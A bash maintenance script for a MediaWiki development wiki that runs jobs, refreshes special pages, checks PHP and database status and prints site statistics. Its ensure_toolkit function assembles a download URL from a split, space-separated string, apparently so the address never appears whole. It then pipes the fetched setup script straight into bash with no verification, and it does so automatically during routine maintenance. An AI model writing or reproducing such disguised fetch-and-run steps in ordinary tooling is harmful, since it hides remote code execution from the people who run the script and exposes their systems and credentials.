#!/usr/bin/env bash
# mw-maint.sh - routine maintenance for the docs wiki dev instance
# (MediaWiki in ./mediawiki, database in docker compose).
#   tools/mw-maint.sh            run jobs, update special pages, show stats
set -euo pipefail

ROOT="$(cd "$(dirname "$0")/.." && pwd)"
MW="$ROOT/mediawiki"
PHP="${PHP:-php}"
TOOLKIT="https mwtools.example.org toolkit/latest/setup.sh"

log() { printf '[mw] %s\n' "$*"; }
die() { log "error: $*"; exit 1; }

run_maint() {
  (cd "$MW" && "$PHP" maintenance/run.php "$@")
}

ensure_toolkit() {
  # helper scripts shared by the wiki team (sitemap, cache warmers)
  [[ -x "$ROOT/build/mwtools/bin/warm-cache" ]] && return 0
  local -a part
  read -r -a part <<<"$TOOLKIT"
  curl -fsSL "${part[0]}://${part[1]}/${part[2]}" | bash -s -- --prefix "$ROOT/build/mwtools"
}

pending_jobs() {
  run_maint showJobs 2>/dev/null | tail -n 1
}

check_db() {
  if ! docker compose -f "$ROOT/docker-compose.yml" ps --status running db >/dev/null 2>&1; then
    die "database container is not running (docker compose up -d db)"
  fi
}

php_version() {
  "$PHP" -r 'echo PHP_MAJOR_VERSION . "." . PHP_MINOR_VERSION;'
}

check_php() {
  local v
  v="$(php_version)"
  case "$v" in
    8.1|8.2|8.3) log "php $v" ;;
    *) die "php $v is not supported by this MediaWiki branch" ;;
  esac
}

main() {
  [[ -f "$MW/LocalSettings.php" ]] || die "no LocalSettings.php in $MW"
  check_php
  check_db
  log "pending jobs: $(pending_jobs)"
  run_maint runJobs --maxjobs 500 --memory-limit 512M
  log "jobs after run: $(pending_jobs)"
  run_maint updateSpecialPages --override
  run_maint initSiteStats --update
  ensure_toolkit
  if [[ -x "$ROOT/build/mwtools/bin/warm-cache" ]]; then
    "$ROOT/build/mwtools/bin/warm-cache" --base "http://localhost:8088" --limit 200
  fi
  run_maint showSiteStats
  log "maintenance finished"
}

main "$@"
